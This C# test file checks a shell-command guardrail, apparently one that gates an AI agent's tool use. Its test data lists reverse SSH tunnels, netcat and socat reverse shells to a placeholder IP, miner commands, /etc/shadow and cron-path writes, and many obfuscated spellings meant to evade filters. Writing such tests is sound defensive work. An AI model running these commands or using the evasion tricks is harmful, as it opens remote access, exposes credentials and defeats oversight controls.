using ToolGate.Core.Actions;
using ToolGate.Core.Decisions;
using ToolGate.Core.Shell;
using ToolGate.Core.Tests.Support;

namespace ToolGate.Core.Tests.Shell;

/// <summary>
/// Classes of evasion, not rows: the same guardrail hit spelled through wrappers, shells, quoting, escapes and
/// brace expansion, under a grant that allows every program involved.
/// </summary>
public class ShellEvasionTests
{
    private static readonly ShellPolicy Wide = ShellPolicy.Compile([TestGrants.Shell("wide", [
        "command *", "timeout *", "busybox *", "env *", "/usr/bin/env *", "sh *", "bash *", "nice *", "xargs *", "stdbuf *",
        "ssh *", "printf *", "echo *", "git *", "cat *", "python3 *", "perl *", "awk *", "ls *",
    ])]);

    private static readonly ShellPolicy Scoped = ShellPolicy.Compile([TestGrants.Shell("scoped", ["sort *", "grep *"], paths: ["/srv/project/**"])]);

    [Theory]
    [InlineData("command ssh -R 9000:localhost:22 a@203.0.113.9")]
    [InlineData("timeout 5 nc -l 9001")]
    [InlineData("busybox nc 203.0.113.9 443")]
    [InlineData("env -i ncat 203.0.113.9 443")]
    [InlineData("/usr/bin/env ssh -NfR 9000:localhost:22 a@h")]
    [InlineData("nice -n 5 stdbuf -o0 ssh -D 1080 a@h")]
    [InlineData("sh -c 'ssh -R 1:localhost:22 a@h'")]
    [InlineData("bash -lc \"echo ok; socat TCP:203.0.113.9:443 EXEC:sh\"")]
    [InlineData("\\ssh -R 1:localhost:22 a@h")]
    [InlineData("s\\sh -R 1:localhost:22 a@h")]
    [InlineData("$'\\x73sh' -R 1:localhost:22 a@h")]
    [InlineData("{ssh,-R,1:localhost:22,a@h}")]
    [InlineData("ssh -oRemoteForward=9000:localhost:22 a@h")]
    [InlineData("ssh -o 'RemoteForward 9000 localhost:22' a@h")]
    [InlineData("echo $(xmrig -o pool:3333)")]
    [InlineData("ls; cat <<EOF\nstratum+tcp://pool.example:3333\nEOF")]
    [InlineData("cat < /dev/tcp/203.0.113.9/80")]
    [InlineData("ls\nssh -w 0:0 root@h")]
    public void GuardrailSpelledAnotherWay_IsStillCritical(string command)
    {
        var verdict = Decide(command);

        Assert.False(verdict.IsAllowed);
        Assert.Equal(Severity.Critical, verdict.Severity);
        Assert.StartsWith("guardrail:shell.", verdict.Rule, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("printf 'id' | python3")]
    [InlineData("python3 -c 'import os; os.system(\"id\")'")]
    [InlineData("perl -e 'exec \"/bin/sh\"'")]
    [InlineData("awk 'BEGIN { system(\"id\") }'")]
    [InlineData("cat <<EOF | sh\nid\nEOF")]
    [InlineData("bash -c \"$(printf id)\"")]
    [InlineData("git -c core.sshCommand=sh log")]
    [InlineData("git log --output=/tmp/x")]
    [InlineData("ssh${IFS}-R${IFS}1:localhost:22${IFS}a@h")]
    [InlineData("xargs -I{} sh -c '{}'")]
    [InlineData("xargs --replace=X git X")]
    [InlineData("eval ssh a@h")]
    public void CodeThatCannotBeJudged_IsDenied(string command)
    {
        var verdict = Decide(command);

        Assert.False(verdict.IsAllowed, $"allowed: {verdict.Reason}");
        Assert.True(verdict.Severity >= Severity.High, $"{verdict.Rule}: {verdict.Reason}");
    }

    [Theory]
    [InlineData("ssh a@h uptime")]
    [InlineData("git log --oneline | cat")]
    [InlineData("python3 script.py && echo done")]
    [InlineData("awk '{ print $1 }' ls.txt")]
    [InlineData("timeout 5 git status")]
    public void OrdinaryUse_OfTheSamePrograms_IsAllowed(string command)
    {
        var verdict = Decide(command);

        Assert.True(verdict.IsAllowed, $"{verdict.Rule}: {verdict.Reason}");
    }

    [Theory]
    [InlineData("sort -uo/etc/cron.d/x a.txt")]
    [InlineData("grep -rf/etc/shadow x a.txt")]
    [InlineData("sort -o=/etc/x a.txt")]
    [InlineData("sort -uo../../etc/x a.txt")]
    public void FileOutsideScope_InABundledShortOption_IsDenied(string command)
    {
        var verdict = ShellEvaluator.Decide(new ShellAction(command, "/srv/project"), Scoped, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);

        Assert.False(verdict.IsAllowed, $"allowed: {verdict.Reason}");
        Assert.Contains("outside the granted paths", verdict.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("sort -uo./sorted.txt a.txt")]
    [InlineData("grep -rn TODO src")]
    public void FileInsideScope_InABundledShortOption_IsAllowed(string command)
    {
        var verdict = ShellEvaluator.Decide(new ShellAction(command, "/srv/project"), Scoped, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);

        Assert.True(verdict.IsAllowed, $"{verdict.Rule}: {verdict.Reason}");
    }

    private static Verdict Decide(string command) =>
        ShellEvaluator.Decide(new ShellAction(command, "/srv/project"), Wide, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);
}
